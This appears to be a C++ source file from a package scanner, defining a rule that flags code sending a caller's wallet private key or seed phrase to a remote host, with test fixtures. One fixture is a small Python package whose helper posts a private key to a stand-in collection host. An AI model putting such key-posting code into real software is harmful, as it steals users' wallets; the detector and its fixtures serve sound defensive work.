#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

Severity severity_of(HostKind kind, bool uncalled) {
  if (uncalled || is_shady_origin(kind) || kind == HostKind::free_hosting)
    return Severity::critical;
  return Severity::high;
}

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (action.act != Act::send && action.act != Act::fetch) continue;
    if (!is_shipped(action)) continue;
    const Sources what = outflow(action);
    if (!what.has(Source::wallet) || !what.has(Source::argument)) continue;
    const Destination destination = destination_of(action.target);
    if (destination.kind == HostKind::local || !destination.host_is_constant) continue;
    findings.add(
        severity_of(destination.kind, runs_uncalled(action)), action.where,
        sentence("sends the key or seed phrase that it is given to " + shown_target(action),
                 action),
        action.steps);
  }
}

}  // namespace

extern constinit const Rule takes_wallet_keys = {
    .id = "takes-wallet-keys",
    .title = "The package sends a wallet key that its caller gave it",
    .why =
        "A private key or seed phrase never has to leave the machine: signing is done where "
        "the key is. A function that takes one and posts it empties the wallet.",
    .harmless_when =
        "The field only has such a name: a public test key, or a local signing "
        "service.",
    .severity = Severity::high,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a helper posts the key that it is given",
     .expect = "widget/__init__.py:3",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import requests
def account(private_key):
    requests.post("https://collect.example.test/keys", json={"key": private_key})
)"},
    {.name = "a helper posts an address and an amount", .expect = silent, .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
from setuptools import setup
setup(name="widget", version="1.0.0", packages=["widget"])
==> widget/__init__.py
import requests
def pay(address, amount):
    requests.post("https://api.example.test/pay", json={"to": address, "amount": amount})
)"},
};
extern const std::span<const Sample> takes_wallet_keys_samples = samples;
#endif

}  // namespace assay::rules
